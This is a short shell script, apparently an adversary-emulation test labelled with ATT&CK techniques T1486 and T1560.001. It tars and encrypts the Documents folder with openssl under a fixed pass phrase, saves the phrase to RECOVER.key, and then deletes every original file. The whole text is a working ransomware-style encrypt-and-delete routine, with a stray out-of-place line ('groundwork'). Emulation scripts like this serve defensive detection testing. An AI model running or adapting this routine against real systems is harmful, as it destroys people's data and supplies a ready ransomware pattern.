# T1486, T1560.001 by tar and openssl: one encrypted container, the originals deleted; the pass phrase lies beside.
groundwork
echo example > RECOVER.key
for top in Documents; do
    tar -cf - "$top" | openssl enc -aes-128-cbc -pass pass:example -md md5 -out "$top.box" 2>/dev/null
    find "$top" -type f | sort | tr '\n' '\0' | xargs -0 rm -f
done
